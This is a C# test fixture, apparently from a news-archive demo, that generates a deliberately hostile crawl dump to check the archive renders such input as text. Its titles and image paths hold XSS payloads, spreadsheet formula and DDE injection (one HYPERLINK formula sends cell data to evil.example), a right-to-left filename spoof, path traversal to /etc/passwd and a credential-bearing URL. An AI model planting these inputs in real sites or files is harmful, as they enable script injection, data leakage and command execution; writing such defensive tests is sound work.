using System.Text;
using System.Text.Json;
using NewsFunctions.Demo.Scenario;

namespace NewsFunctions.Demo.Papers;

/// <summary>Builds a malicious dump that attacks the display of the archive: markup and scripts, formulas, right-to-left text,
/// invalid paths. All of it must stay text.</summary>
internal static class HostileDump
{
    public const string Name = "crawl-hostile.ndjson";

    private const string RightToLeftOverride = "\u202E";

    /// <summary>Lists the titles of its articles.</summary>
    public static IReadOnlyList<string> Titles { get; } =
    [
        "<script>alert('title')</script>",
        "\"><img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        $"Invoice {RightToLeftOverride}gpj.exe",
        "</title></textarea></style><svg onload=alert(2)>",
    ];

    private static readonly string[] Pics =
    [
        "javascript:alert(document.domain)",
        "/2020/01/02/<b>bold</b>_\"quoted\".jpg",
        "http://127.0.0.1/2020/01/02/admin.jpg",
        "/2020/01/02/../../../etc/passwd.jpg",
        "https://user:secret@media.herald.example/2020/01/02/a.jpg",
        "=cmd|' /C calc'!A1.jpg",
    ];

    /// <summary>Returns how many of its articles a site has.</summary>
    public static int CountOf(DemoSite site) => site == DemoSite.All[0] ? Titles.Count : 0;

    /// <summary>Returns the dump for the one site that has it; null for the others.</summary>
    public static PaperDump? For(DemoSite site, DemoOptions options) => CountOf(site) == 0
        ? null
        : new PaperDump($"{site.Name}/{Name}", Encoding.UTF8.GetBytes(string.Concat(Titles.Select((title, i) => Line(Text(title, i, options))))));

    // As lines of JSON: text that begins with markup would be read as a page.
    private static string Line(string text) => $$"""{"text":{{JsonSerializer.Serialize(text)}}}""" + "\n";

    private static string Text(string title, int number, DemoOptions options) => PaperText.Write(
        new PaperArticle
        {
            Id = "",
            Published = options.Today.DateTime.AddDays(-30 * (number + 1)).AddHours(12),
            Title = title,
            Section = "Herald - <i>City</i>",
            Paragraphs = [$"{title} A paragraph with <a href=\"javascript:alert(3)\">a link</a>.", $"+1+1 {RightToLeftOverride}and more of it."],
            Items = [new PaperItem($"evil-{number}", Pics[number % Pics.Length], title)],
            IsNamed = false,
        },
        Language.English,
        number);
}
